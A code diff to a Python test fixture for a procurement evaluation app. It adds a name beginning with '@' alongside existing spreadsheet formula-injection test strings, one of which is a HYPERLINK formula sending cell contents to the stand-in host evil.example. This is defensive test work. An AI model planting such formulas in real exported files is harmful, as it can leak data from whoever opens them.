@@ -16,6 +16,7 @@ from ..helpers import sign_in
 #: Rationales a spreadsheet would read as formulas if written naively.
 RISKY = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+1", "-2", "@SUM(A1)",
          "\tx", "\rx"]
+RISKY_NAME = "@Pat Patel"
 
 
 @pytest.fixture
@@ -41,6 +42,7 @@ def demo(app, fast_passwords) -> Procurement:
                               section=cell.section, value=(i * 3) % 5,
                               rationale=RISKY[i % len(RISKY)], expected_version=0)
     evaluation.submit_scores(pat, procurement)
+    pat.name = RISKY_NAME  # names are typed by people too
     # Moderation agrees one cell (set directly: the moderation screens are not under test).
     lead = procurement.lead
     bidder, section = procurement.bidders[0], procurement.sections[0]
